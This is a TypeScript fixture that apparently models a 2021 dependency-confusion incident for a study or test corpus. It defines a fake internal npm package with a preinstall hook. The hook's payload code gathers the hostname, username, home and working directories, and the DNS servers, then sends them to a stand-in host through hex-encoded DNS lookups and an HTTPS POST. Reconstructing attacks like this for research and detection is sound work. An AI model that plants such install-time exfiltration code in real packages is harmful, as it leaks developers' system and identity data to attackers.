import type { Incident } from '../incident.ts';

export const dependencyConfusion: Incident = {
  id: 'dependency-confusion-2021',
  story:
    'A package with the name of an internal one and a very high version; its preinstall script sends host name, user, working folder and addresses, as hex labels of DNS questions and as a POST, and does nothing else.',
  sources: [
    'https://blog.crawlex.net/blog/dependency-confusion',
    'https://lumstep.fr/en/guides/dependency-confusion-attacks-2026',
  ],
  name: '@corpus-internal/auth-helpers',
  version: '99.10.9',
  manifest: { main: 'index.js', scripts: { preinstall: 'node index.js' } },
  payloads: [
    {
      path: 'index.js',
      format: 'cjs',
      uses: { os: 'os', dns: 'dns', https: 'https', querystring: 'querystring' },
      sections: [
        {
          provides: ['facts'],
          code: `
const manifest = require('./package.json');
const facts = {
  package: manifest.name,
  directory: __dirname,
  home: os.homedir(),
  hostname: os.hostname(),
  user: os.userInfo().username,
  servers: dns.getServers(),
  registry: process.env.npm_config_registry,
  json: manifest,
};
`,
        },
        {
          provides: ['sendByName'],
          code: `
function sendByName() {
  const hex = Buffer.from(JSON.stringify([facts.hostname, facts.user, facts.directory])).toString('hex');
  const labels = hex.match(/.{1,60}/g) || [];
  labels.forEach((label, index) => {
    dns.lookup(label + '.' + index + '.c0rpu5.oast.invalid', () => {});
  });
}
`,
        },
        {
          provides: [],
          code: `
function sendByPost() {
  const body = querystring.stringify({ msg: JSON.stringify(facts) });
  const request = https.request({ hostname: 'c0rpu5.oast.invalid', port: 443, path: '/', method: 'POST', headers: { Accept: '*/*' } }, (answer) => {
    answer.on('data', () => {});
  });
  request.on('error', () => {});
  request.write(body);
  request.end();
}
sendByName();
sendByPost();
`,
        },
      ],
    },
  ],
  files: {},
  marks: { 'c0rpu5.oast.invalid': 'status.invalid' },
};
